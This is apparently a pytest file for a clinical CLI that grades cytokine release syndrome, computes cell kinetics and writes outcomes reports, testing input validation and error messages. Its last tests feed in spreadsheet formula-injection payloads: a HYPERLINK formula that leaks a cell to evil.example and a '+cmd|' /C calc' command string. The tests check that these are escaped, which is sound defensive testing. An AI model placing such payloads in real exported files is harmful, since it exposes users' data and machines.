"""``vein2vein clinical grade`` and ``clinical kinetics`` through the real CLI."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from vein2vein.cli import main

HEADER = (
    "patient_id,day,tocilizumab,steroids,temperature_c,hypotension,vasopressors,"
    "oxygen,oxygen_flow_l_min,fever_treated\n"
)


def _crs_csv(tmp_path: Path) -> Path:
    path = tmp_path / "crs.csv"
    path.write_text(
        HEADER
        + "P1,1,false,false,38.4,no,,none,,no\n"  # grade 1: fever only
        + "P1,2,true,false,39.1,yes,,nasal_cannula,4,no\n"  # grade 2
        + "P1,3,false,false,37.2,yes,norepinephrine,nasal_cannula,6.5,yes\n"  # grade 3
        + "P1,4,false,false,36.9,no,,none,,yes\n"  # resolved
        + "P2,1,false,false,37.0,no,,none,,no\n"  # no CRS
    )
    return path


def test_grade_reports_each_episode(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    graded = tmp_path / "graded.csv"
    code = main(
        [
            "clinical",
            "grade",
            str(_crs_csv(tmp_path)),
            "--kind",
            "crs",
            "--json",
            "--out",
            str(graded),
        ]
    )
    assert code == 0
    payload = json.loads(capsys.readouterr().out)
    assert [r["grade"] for r in payload["graded"]] == [1, 2, 3, 0, 0]
    (episode,) = payload["episodes"]
    assert episode["patient_id"] == "P1"
    assert (episode["onset_day"], episode["max_grade"], episode["max_grade_day"]) == (1, 3, 3)
    assert episode["tocilizumab_days_from_onset"] == 1
    assert graded.read_text().splitlines()[0].startswith("patient_id")


@pytest.mark.parametrize(
    ("row", "field"),
    [
        ("P1,1,false,false,101.3,no,,none,,no\n", "temperature_c"),  # Fahrenheit
        ("P1,1,false,false,38.4,no,,helmet,,no\n", "oxygen"),
    ],
)
def test_bad_observations_exit_2_naming_the_field(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], row: str, field: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + row)
    assert main(["clinical", "grade", str(path), "--kind", "crs"]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert field in err and "bad.csv" in err


def test_kinetics_per_patient(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "pk.csv"
    path.write_text(
        "patient_id,day,value\n"
        "P1,0,0\nP1,7,1000\nP1,14,4000\nP1,28,500\n"
        "P2,0,0\nP2,10,200\nP2,28,20\n"
    )
    assert main(["clinical", "kinetics", str(path), "--json"]) == 0
    rows = {r["patient_id"]: r for r in json.loads(capsys.readouterr().out)}
    assert (rows["P1"]["cmax"], rows["P1"]["tmax"]) == (4000, 14)
    # Linear trapezoid by hand: 7*500 + 7*2500 + 14*2250 = 52500.
    assert rows["P1"]["auc_linear"] == pytest.approx(52500)
    assert rows["P2"]["cmax"] == 200


def test_kinetics_bad_value_exit_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "pk.csv"
    path.write_text("patient_id,day,value\nP1,0,0\nP1,seven,10\n")
    assert main(["clinical", "kinetics", str(path)]) == 2
    assert "line 3" in " ".join(capsys.readouterr().err.split())


def test_outcomes_report_from_a_patient_table(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import numpy as np

    # Synthetic cohort: higher CAR expression, longer progression-free survival.
    rng = np.random.default_rng(3)
    n = 60
    car = rng.normal(30, 8, n)
    pfs = rng.exponential(200 * np.exp((car - 30) / 10))
    frame_lines = ["patient_id,car_expression,vcn,pfs_time,pfs_event,responder"]
    for i in range(n):
        event = int(pfs[i] < 365)
        responder = int(car[i] + rng.normal(0, 6) > 30)
        frame_lines.append(
            f"P{i},{car[i]:.2f},{rng.normal(2, 0.4):.2f},{min(pfs[i], 365):.1f},{event},{responder}"
        )
    path = tmp_path / "patients.csv"
    path.write_text("\n".join(frame_lines) + "\n")
    out = tmp_path / "report"
    code = main(
        [
            "clinical",
            "outcomes",
            str(path),
            "--attribute",
            "car_expression",
            "--attribute",
            "vcn",
            "--out",
            str(out),
            "--permutations",
            "19",
            "--label",
            "SYNTHETIC cohort",
        ]
    )
    assert code == 0, capsys.readouterr().err
    html = (out / "outcomes-report.html").read_text()
    assert "SYNTHETIC cohort" in html and "<img" in html
    assert main(["clinical", "outcomes", str(path), "--attribute", "nope", "--out", str(out)]) == 2


@pytest.mark.parametrize(
    ("row", "field", "message"),
    [
        ("P1,99999999999999999999,false,false,38.4,no,,none,,no\n", "day", "possible study day"),
        ("P1,40000,false,false,38.4,no,,none,,no\n", "day", "possible study day"),
        ("P1,1,false,false,nan,no,,none,,no\n", "temperature_c", "not a finite number"),
        ("P1,1,false,false,1e400,no,,none,,no\n", "temperature_c", "not a finite number"),
        ("P1,1,false,false,-500,no,,none,,no\n", "temperature_c", "not a possible body"),
        ("P1,1,false,false,38.4,no,,nasal_cannula,inf,no\n", "oxygen_flow_l_min", "L/min"),
    ],
)
def test_impossible_observations_exit_2_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], row: str, field: str, message: str
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + "P1,0,false,false,37.0,no,,none,,no\n" + row)
    assert main(["clinical", "grade", str(path), "--kind", "crs"]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert f"field {field!r}" in err and "line 3" in err and message in err
    assert "Traceback" not in err


def test_grade_refuses_a_patient_day_given_twice(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "twice.csv"
    path.write_text(
        HEADER
        + "P1,1,false,false,38.4,no,,none,,no\n"
        + "P2,1,false,false,37.0,no,,none,,no\n"
        + "P1,1,false,false,39.4,yes,,none,,no\n"
    )
    out = tmp_path / "graded.csv"
    assert main(["clinical", "grade", str(path), "--kind", "crs", "--out", str(out)]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "field 'day'" in err and "line 4: patient_id P1, day 1 repeats line 2" in err
    assert not out.exists()


def test_kinetics_refuses_mixed_units_for_one_patient(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "pk.csv"
    path.write_text(
        "patient_id,day,value,unit\n"
        "P1,0,0,copies/ug\nP1,7,1000,copies/ug\nP2,7,80,cells/uL\nP1,14,30,cells/uL\n"
    )
    assert main(["clinical", "kinetics", str(path)]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "field 'unit'" in err
    assert "line 5: patient P1 has values in 'cells/uL' here and in 'copies/ug' on line 2" in err


def test_kinetics_takes_each_patients_unit_from_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "pk.csv"
    path.write_text(
        "patient_id,day,value,unit\nP1,0,0,copies/ug\nP1,7,1000,copies/ug\n"
        "P2,0,0,cells/uL\nP2,7,80,cells/uL\n"
    )
    assert main(["clinical", "kinetics", str(path), "--json"]) == 0
    units = {r["patient_id"]: r["unit"] for r in json.loads(capsys.readouterr().out)}
    assert units == {"P1": "copies/ug", "P2": "cells/uL"}


@pytest.mark.parametrize(
    ("rows", "field", "message"),
    [
        ("P1,0,0\nP1,7,inf\n", "value", "line 3: inf is not a finite number"),
        ("P1,0,0\nP1,7,1e400\n", "value", "line 3: inf is not a finite number"),
        ("P1,0,0\nP1,7,-5\n", "value", "line 3: -5 is not a possible amount"),
        ("P1,0,0\nP1,1e9,5\n", "day", "line 3: 1e+09 days is not a possible study day"),
    ],
)
def test_kinetics_refuses_impossible_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], rows: str, field: str, message: str
) -> None:
    path = tmp_path / "pk.csv"
    path.write_text("patient_id,day,value\n" + rows)
    assert main(["clinical", "kinetics", str(path)]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert f"field {field!r}" in err and message in err


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _spreadsheet_cells(path: Path) -> list[list[str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _no_formula(cells: list[list[str]]) -> None:
    for row in cells:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a plain number may start with a sign


def test_grade_out_csv_is_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
    path = tmp_path / "crs.csv"
    quoted = '"' + HOSTILE.replace('"', '""') + '"'
    path.write_text(
        HEADER.rstrip("\n") + ",comment\n"
        f"{quoted},1,false,false,38.4,no,,none,,no,@SUM(1+1)\n"
        "P2,1,false,false,37.0,no,,none,,no,+cmd|' /C calc'!A0\n"
    )
    out = tmp_path / "graded.csv"
    assert main(["clinical", "grade", str(path), "--kind", "crs", "--out", str(out)]) == 0
    cells = _spreadsheet_cells(out)
    _no_formula(cells)
    flat = [c for row in cells for c in row]
    assert "'" + HOSTILE in flat and "'@SUM(1+1)" in flat and "'+cmd|' /C calc'!A0" in flat


def test_outcomes_table_csv_is_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
    lines = ["patient_id,car_expression,pfs_time,pfs_event,responder"]
    for i in range(30):
        name = f"-{i}+cmd" if i % 2 else f"P{i}"
        lines.append(f"{name},{20 + i},{100 + 10 * i},{i % 3 == 0:d},{int(i > 14)}")
    path = tmp_path / "patients.csv"
    path.write_text("\n".join(lines) + "\n")
    table = tmp_path / "table.csv"
    code = main(
        ["clinical", "outcomes", str(path), "--attribute", "car_expression",
         "--out", str(tmp_path / "report"), "--permutations", "19", "--table", str(table)]
    )  # fmt: skip
    assert code == 0
    cells = _spreadsheet_cells(table)
    _no_formula(cells)
    assert cells[2][0] == "'-1+cmd" and cells[1][0] == "P0"


@pytest.mark.parametrize(
    ("where", "code", "message"),
    [
        ("under-a-file/graded.csv", 2, "Not a directory"),
        ("no/such/folder/graded.csv", 2, "No such file or directory"),
        ("x" * 300 + ".csv", 4, "File name too long"),
    ],
)
def test_an_output_that_cannot_be_written_is_a_message_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], where: str, code: int, message: str
) -> None:
    (tmp_path / "under-a-file").write_text("a file\n")
    out = tmp_path / where
    assert (
        main(["clinical", "grade", str(_crs_csv(tmp_path)), "--kind", "crs", "--out", str(out)])
        == code
    )
    err = " ".join(capsys.readouterr().err.split())
    assert message in err and "Traceback" not in err
